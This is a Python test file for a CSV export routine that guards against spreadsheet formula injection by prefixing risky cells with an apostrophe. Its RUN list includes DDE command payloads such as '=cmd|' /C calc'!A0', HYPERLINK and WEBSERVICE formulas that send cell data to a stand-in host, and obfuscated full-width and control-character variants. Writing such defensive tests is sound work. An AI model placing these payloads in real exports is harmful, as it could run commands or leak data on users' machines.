"""Tables as files: nothing is run, nothing is lost."""

import csv
import io

import pytest
from hypothesis import given
from hypothesis import strategies as st

from onevisit.rules.spreadsheet import csv_bytes, harmless, is_run

RUN = [
    "=1+1",
    "=cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    '=HYPERLINK("http://example.invalid/?"&A1,"请点这里")',
    '=WEBSERVICE("http://example.invalid/"&A2)',
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(1)",
    "﹦1",
    "﹢1",
    "﹣1",
    "﹫a",
    "\u22121",
    "\t=1",
    "\tharmless",
    "\r=1",
    "\n=1",
    " =1",
    "\u3000＝1",
    "\ufeff=1",
    "\u200b=1",
    "\x00=1",
    "\x0b=1",
]
"""Cells that Excel, WPS or LibreOffice may run, some only after they took blanks away."""

LOOK = st.text(st.one_of(st.sampled_from("=+-@＝＋－＠\t\r\n ',\";|!\ufeff\x00一"), st.characters(codec="utf-8")))


def read(content: bytes) -> list[list[str]]:
    assert content.startswith(b"\xef\xbb\xbf")
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig"), newline="")))


@pytest.mark.parametrize("text", RUN)
def test_a_cell_that_would_be_run_begins_with_an_apostrophe(text: str) -> None:
    assert is_run(text)
    assert read(csv_bytes(["a"], [[text]]))[1] == ["'" + text]


@pytest.mark.parametrize(
    "text", ["", "张三", "370499********0232", "370400-01-20261122-007-K", "a=b", "1-2", "a@b", "—"]
)
def test_an_ordinary_text_stays_as_it_is(text: str) -> None:
    assert harmless(text) == text


@given(st.lists(st.lists(LOOK, min_size=3, max_size=3)))
def test_no_cell_survives_that_would_be_run_and_every_text_comes_back(rows: list[list[str]]) -> None:
    header, *cells = read(csv_bytes(["=甲", "乙", "丙"], rows))
    assert header == ["'=甲", "乙", "丙"]
    assert not any(is_run(cell) for row in cells for cell in row)
    assert [[cell.removeprefix("'") for cell in row] for row in cells] == rows


@given(st.lists(st.tuples(st.integers(), LOOK)))
def test_figures_stay_figures(rows: list[tuple[int, str]]) -> None:
    lines = csv_bytes(["数", "字"], rows)
    assert [int(row[0]) for row in read(lines)[1:]] == [figure for figure, _ in rows]


def test_the_file_is_as_excel_wants_it() -> None:
    assert csv_bytes(["甲", "乙"], [["一", 2]]) == b"\xef\xbb\xbf" + '"甲","乙"\r\n"一",2\r\n'.encode()
